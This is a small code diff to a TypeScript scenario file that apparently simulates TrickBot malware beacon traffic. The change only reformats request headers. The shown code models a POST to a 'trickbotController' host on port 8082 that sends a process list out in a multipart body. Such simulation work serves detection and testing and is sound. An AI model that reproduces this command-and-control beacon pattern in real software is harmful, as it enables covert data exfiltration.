@@ -114,7 +114,11 @@ export const beacon: Scenario = (stage, atUs, rng) => {
             method: "POST",
             host: `${trickbotController.host.ip}:8082`,
             path: `/ser0713us/${machine}/90`,
-            requestHeaders: { Accept: "*/*", "User-Agent": "test", "Content-Type": "multipart/form-data; boundary=Arasfjasu7" },
+            requestHeaders: {
+              Accept: "*/*",
+              "User-Agent": "test",
+              "Content-Type": "multipart/form-data; boundary=Arasfjasu7",
+            },
             requestBody: Buffer.from(
               '--Arasfjasu7\r\nContent-Disposition: form-data; name="proclist"\r\n\r\nexplorer.exe\r\n--Arasfjasu7--\r\n',
             ),
